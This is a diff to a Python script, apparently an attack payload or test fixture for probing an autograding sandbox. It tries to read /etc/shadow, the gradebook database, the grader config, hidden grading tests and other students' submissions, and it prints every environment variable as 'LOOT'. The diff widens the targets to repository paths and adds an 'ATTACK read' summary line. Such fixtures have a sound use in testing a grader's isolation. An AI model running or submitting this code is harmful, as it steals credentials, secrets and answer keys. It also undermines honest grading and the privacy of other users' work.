@@ -8,9 +8,11 @@ import os
 
 COURSE = "__COURSE__"
 API = "__API__".split(",")
+REPO = "__REPO__"
 _targets = ["/etc/shadow", f"{COURSE}/gradebook.db", f"{COURSE}/nbgrader_config.py"]
 for _pattern in ("source/*/*", "grading_tests/*/*", "submitted/*/*/*", "autograded/*/*/*", ".judge_cache/*/*"):
-    _targets += glob.glob(f"{COURSE}/{_pattern}")
+    _targets += glob.glob(f"{COURSE}/{_pattern}") + glob.glob(f"{REPO}/{_pattern}")
+_targets += [f"{COURSE}/grading_tests/gru_gates/test_gates.py", f"{REPO}/grading_tests/gru_gates/test_gates.py"]
 _here = os.getcwd()
 for _up in range(1, 6):                      # relative walks from wherever the code runs
     _root = os.path.join(_here, *[".."] * _up)
@@ -26,6 +28,8 @@ for _path in _targets:
         _loot.append(f"== {_path}: {exc}")
 _loot.append("== environ\n" + "\n".join(f"{k}={v}" for k, v in os.environ.items()))
 LOOT = "\n".join(_loot)
+_read = [t for t, text in zip(_targets, _loot) if not text.startswith(f"== {t}:")]
+print("ATTACK read", len(_read), "of", len(_targets), "files:", ", ".join(_read)[:300])
 print(LOOT)
 
 
